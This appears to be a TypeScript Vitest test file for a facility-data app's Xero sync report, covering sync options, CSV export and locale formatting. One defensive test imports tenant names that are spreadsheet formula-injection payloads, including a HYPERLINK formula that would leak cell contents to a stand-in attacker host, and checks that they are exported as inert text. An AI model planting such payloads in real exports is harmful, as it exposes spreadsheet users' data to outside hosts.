import { mkdtempSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ReportRow, SyncOptionProgress } from '../../contract';
import { dispatch } from '../../main/dispatch';
import { createServices, type Services } from '../../main/services';

/** The report's sync options through the contract, on real SQLite, with Xero not connected. */
let services: Services;

async function call<T>(method: string, ...args: unknown[]): Promise<T> {
  const res = await dispatch(services.api, method, args);
  if (!res.ok) throw new Error(`${res.error.code}: ${res.error.message}`);
  return res.value as T;
}

async function payments(status: 'all' | 'non-synced' = 'all'): Promise<ReportRow[]> {
  return (await call<{ rows: ReportRow[] }>('queryReport', { kind: 'payments', status })).rows;
}

beforeAll(async () => {
  services = await createServices({ dataDir: mkdtempSync(path.join(os.tmpdir(), 'report-actions-')), syncAutoStart: false });
  await services.api.importFacilityData({ path: path.resolve('test/fixtures/csv-sample') });
});
afterAll(() => services.close());

test('Exclude from sync, then Include in sync, then ReSync, with plain outcomes', async () => {
  const [a, b] = (await payments()).filter((r) => r.status === 'pending');
  const ids = [a!.id, b!.id];

  const excluded = await call<SyncOptionProgress>('applySyncOption', { kind: 'payments', option: 'exclude', ids });
  expect(excluded.message).toBe('2 payments excluded from sync.');
  expect((await payments()).filter((r) => ids.includes(r.id)).map((r) => r.status)).toEqual(['excluded', 'excluded']);
  expect((await call<{ counts: { payments: { excluded: number } } }>('getDashboard')).counts.payments.excluded).toBeGreaterThanOrEqual(2);

  // A ReSync skips excluded records and says what to do about them.
  const skipped = await call<SyncOptionProgress>('applySyncOption', { kind: 'payments', option: 'resync', ids });
  expect(skipped.total).toBe(0);
  expect(skipped.message).toBe('2 payments are excluded from sync and were skipped: choose "Include in sync" first.');

  const again = await call<SyncOptionProgress>('applySyncOption', { kind: 'payments', option: 'exclude', ids: [a!.id] });
  expect(again.message).toBe('0 payments excluded from sync. 1 payment needed no change.');

  const included = await call<SyncOptionProgress>('applySyncOption', { kind: 'payments', option: 'include', ids });
  expect(included.message).toBe('2 payments included in sync again.');
  expect((await payments()).filter((r) => ids.includes(r.id)).map((r) => r.status)).toEqual(['pending', 'pending']);

  // Not connected: a ReSync is queued and says why it does not go out yet.
  const resync = await call<SyncOptionProgress>('applySyncOption', { kind: 'payments', option: 'resync', ids });
  expect(resync).toMatchObject({ total: 2, waiting: 2, offline: true });
  expect(resync.message).toBe('2 payments queued; they go out once Facility Sync is connected to Xero (Settings > Integration > Accounting Software > Xero > Authenticate).');
});

test('no selection and unknown ids are refused in plain words', async () => {
  await expect(call('applySyncOption', { kind: 'payments', option: 'resync', ids: [] })).rejects.toThrow(/bad_request/);
  await expect(call('applySyncOption', { kind: 'payments', option: 'resync', externalIds: ['NOPE'] })).rejects.toThrow(
    /No payments with id NOPE\. Check the ids in the report\./,
  );
});

test('CSV export holds every matching row with its status', async () => {
  const csv = await call<{ csv: string; rows: number; fileName: string }>('exportReportCsv', { kind: 'payments', status: 'all' });
  const lines = csv.csv.trim().split('\r\n');
  expect(lines[0]).toBe('record,external_id,tenant,date,amount,currency,location,building,status,last_attempt,last_attempt_local,failure,fix');
  expect(lines).toHaveLength(csv.rows + 1);
  expect(csv.rows).toBe((await payments()).length);
  expect(csv.fileName).toMatch(/^integration-report-payments-all-\d{4}-\d{2}-\d{2}\.csv$/);
});

test('CSV export: tenant names that spreadsheets would run as formulas are written as text', async () => {
  const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+SUM(1,2)', '-2+3', '@SUM(1,2)'];
  const dir = mkdtempSync(path.join(os.tmpdir(), 'formula-tenants-'));
  const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;
  writeFileSync(path.join(dir, 'tenants.csv'), [
    'tenant_id,location_id,name,updated_at',
    ...names.map((n, i) => `T-EVIL-${i},LOC-SYD,${quote(n)},2025-01-05T10:15:00Z`),
  ].join('\n'));
  expect((await services.api.importFacilityData({ path: dir })).rejected).toEqual([]);
  const { csv } = await call<{ csv: string }>('exportReportCsv', { kind: 'tenants', status: 'all' });
  const rows = parse(csv, { columns: true }) as Array<{ record: string; tenant: string; external_id: string; amount: string }>;
  const evil = rows.filter((r) => r.external_id.startsWith('T-EVIL-'));
  expect(evil.map((r) => r.tenant).sort()).toEqual(names.map((n) => `'${n}`).sort());
  expect(evil.every((r) => r.record === r.tenant)).toBe(true);
  // Amounts are still plain numbers.
  const { csv: paymentsCsv } = await call<{ csv: string }>('exportReportCsv', { kind: 'payments', status: 'all' });
  expect((parse(paymentsCsv, { columns: true }) as Array<{ amount: string }>).every((r) => /^\d+\.\d{2}$/.test(r.amount))).toBe(true);
});


test('the report, the dashboard and the CSV give the locations\' locale, time zone and currency (issue 17)', async () => {
  // The sample's locations are in Sydney and Melbourne, in AUD, and no organisation is connected.
  const format = { locale: 'en-AU', timeZone: 'Australia/Sydney', currency: 'AUD' };
  expect((await call<{ format: unknown }>('getDashboard')).format).toEqual(format);
  const page = await call<{ format: unknown; rows: ReportRow[] }>('queryReport', { kind: 'invoices', status: 'all' });
  expect(page.format).toEqual(format);
  expect(page.rows.every((r) => r.currency === 'AUD' && r.inXero === false)).toBe(true);
  const rows = parse((await call<{ csv: string }>('exportReportCsv', { kind: 'invoices', status: 'all' })).csv, { columns: true }) as Array<Record<string, string>>;
  // Dates stay ISO and amounts plain numbers for spreadsheets; the currency is named beside them.
  expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r.date!) && r.currency === 'AUD' && /^\d+\.\d{2}$/.test(r.amount!))).toBe(true);
});
